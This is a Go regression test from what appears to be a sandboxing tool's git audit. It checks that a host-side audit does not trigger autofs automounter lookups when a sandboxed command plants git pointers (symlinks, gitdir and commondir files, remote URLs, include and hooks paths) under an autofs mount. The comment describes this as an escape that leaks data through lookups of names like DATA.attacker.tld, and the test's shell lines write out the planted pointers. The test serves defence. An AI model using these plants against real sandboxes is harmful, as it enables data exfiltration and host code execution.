//go:build linux

package gitguard

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/moat-sandbox/moat/internal/testutil"
)

// Found by attack pass 56: a pointer the command left to a name below an
// autofs mount of the host (sub/.git -> /net/DATA.attacker.tld/x, a .git
// file or commondir naming it, a remote's URL there, an include, a hooks
// path) had the audit, outside the sandbox, look it up, and the kernel
// asked the host's automounter for DATA (a DNS query with a -hosts map, a
// root program with a program map). The test is the automounter: no
// request may arrive during the audit; the pointers the run made go, the
// user's own is left.
func TestAuditAutofsNotAsked(t *testing.T) {
	testutil.RequireRoot(t) // mounting autofs takes root
	s := newScene(t)
	net := filepath.Join(s.root, "net")
	am := testutil.NewAutomounter(t, net)
	// The user's own pointer there, from before the run: left, not
	// followed.
	s.sh(s.w, `mkdir -p old && ln -s `+net+`/k-old/x old/.git && mkdir -p many/d{1..300}`)
	s.begin()
	s.audit() // a record of many/: a warm audit lstats what it knows ahead of the walk
	s.begin()
	s.sh(s.w, strings.Join([]string{
		`mkdir -p s1 && ln -s ` + net + `/k-link/x s1/.git`,
		`mkdir -p s2 && printf 'gitdir: %s\n' ` + net + `/k-file/x > s2/.git`,
		`git init -q s3 && printf '%s\n' ` + net + `/k-commondir > s3/.git/commondir`,
		`git init -q s4 && git -C s4 remote add origin ` + net + `/k-remote/r.git`,
		`git init -q s5 && git -C s5 config include.path ` + net + `/k-include/cfg && git -C s5 config core.hooksPath ` + net + `/k-hooks`,
		`ln -s ` + net + `/k-indirect lnk && mkdir -p s6 && printf 'gitdir: ../lnk/x\n' > s6/.git`,
		`git init -q s7 && git -C s7 remote add origin file://` + net + `/k-url/r.git`,
		`rm -rf many && ln -s ` + net + `/k-prestat many`,
	}, " && "))
	time.Sleep(100 * time.Millisecond)
	am.Reset() // the plants' own lookups (git init's) are not the audit's
	rep := s.audit()
	if got := am.Asked(); len(got) > 0 {
		t.Errorf("ESCAPE: the audit asked the host's automounter for %q (findings %+v)", got, rep.Findings)
	}
	for _, p := range []string{"s1/.git", "s2/.git", "s3/.git/commondir", "s6/.git"} {
		if _, err := os.Lstat(filepath.Join(s.w, p)); err == nil {
			t.Errorf("%s, a pointer the run made below the autofs mount, stayed", p)
		}
	}
	for _, p := range []string{"s4", "s5", "s7"} {
		if b, _ := os.ReadFile(filepath.Join(s.w, p, ".git", "config")); strings.Contains(string(b), net) {
			t.Errorf("%s/.git/config still names the autofs mount:\n%s", p, b)
		}
	}
	if _, err := os.Lstat(filepath.Join(s.w, "old", ".git")); err != nil {
		t.Errorf("the user's own .git symlink from before the run went: %v", err)
	}
	// Without the audit's care the same paths do ask (or this test
	// cannot fail).
	am.Reset()
	os.Stat(filepath.Join(net, "k-direct", "x"))
	deadline := time.Now().Add(2 * time.Second)
	for len(am.Asked()) == 0 && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}
	if got := am.Asked(); len(got) != 1 || got[0] != "k-direct" {
		t.Errorf("a lookup below the autofs mount must ask the automounter (asked %q)", got)
	}
}
